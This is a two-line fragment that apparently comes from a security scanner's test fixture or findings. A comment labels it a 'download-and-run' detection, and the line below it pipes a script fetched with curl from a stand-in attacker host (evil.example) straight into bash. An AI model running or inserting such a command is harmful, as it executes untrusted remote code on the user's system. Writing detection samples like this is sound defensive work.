# nacre: found process.download-and-run
bash <(curl -s https://evil.example/x)
